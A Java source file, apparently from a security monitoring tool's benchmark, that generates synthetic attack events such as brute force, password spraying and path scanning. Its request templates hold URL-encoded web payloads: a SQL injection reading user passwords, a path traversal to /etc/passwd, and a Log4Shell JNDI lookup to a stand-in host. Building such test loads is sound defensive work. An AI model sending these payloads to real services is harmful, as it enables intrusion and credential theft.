package io.streamwarden.app.workload;

import io.streamwarden.schema.FailureReason;
import java.util.SplittableRandom;

/** The attacks within the benchmark's load, by the number of events that one of them takes. */
public enum BenchAttack {
    /** One address, one user. */
    BRUTE_FORCE(12, true, failure(FailureReason.INVALID_CREDENTIALS)),
    /** One address, a new user each time. */
    PASSWORD_SPRAY(30, true, failure(FailureReason.UNKNOWN_USER)),
    /** Twelve addresses, one user. */
    DISTRIBUTED_BRUTE_FORCE(36, true, failure(FailureReason.INVALID_CREDENTIALS)),
    SQL_INJECTION(3, false, request("/search", "q=%27%20UNION%20SELECT%20name,pass%20FROM%20users--", 200)),
    PATH_TRAVERSAL(3, false, request("/download", "file=..%2f..%2f..%2f..%2fetc%2fpasswd", 400)),
    LOG4SHELL(3, false, request("/search", "q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.201%2Fa%7D", 200)),
    /** A new path that does not exist each time. */
    PATH_SCAN(24, false, request("/old-" + RecordTemplate.ITEM + ".bak", "", 404));

    private static final int ACCOMPLICES = 12;

    private final int events;
    private final boolean signIn;

    @SuppressWarnings("ImmutableEnumChecker") // generated records have no setters here
    private final SimulatedEvent marked;

    BenchAttack(int events, boolean signIn, SimulatedEvent marked) {
        this.events = events;
        this.signIn = signIn;
        this.marked = marked;
    }

    /** How many events one attack of this kind takes. */
    public int events() {
        return events;
    }

    /** Whether it is made of sign-ins, not of requests. */
    public boolean signIn() {
        return signIn;
    }

    /** The address from which event {@code step} of attack number {@code serial} comes. */
    public String address(long serial, int step) {
        int accomplice = this == DISTRIBUTED_BRUTE_FORCE ? 1 + step % ACCOMPLICES : 1;
        return "2001:db8:" + group(serial >>> 12) + ":" + group(serial) + "::" + Integer.toHexString(accomplice);
    }

    /** The user whom event {@code step} of attack number {@code serial} is aimed at. */
    public String user(long serial, int step) {
        return this == PASSWORD_SPRAY ? "victim-" + serial + "-" + step : "victim-" + serial;
    }

    RecordTemplate template(int schemaId) {
        return RecordTemplate.of(schemaId, marked);
    }

    /** Four hex digits without a leading zero, so that the text is canonical (RFC 5952). */
    private static String group(long number) {
        return Integer.toHexString(0x1000 + (int) (number & 0xfff));
    }

    private static SimulatedEvent failure(FailureReason reason) {
        return attacker().failsToSignIn(RecordTemplate.USER, reason, RecordTemplate.TIME, new SplittableRandom(0));
    }

    private static SimulatedEvent request(String path, String query, int status) {
        Request request = new Request("GET", "/{page}", path, query, status);
        return attacker().requests(RecordTemplate.TIME, request, new SplittableRandom(0));
    }

    private static Client attacker() {
        return new Client(RecordTemplate.ADDRESS, "Mozilla/5.0 (X11; Linux x86_64) Chrome/138.0.0.0", 64_496);
    }
}
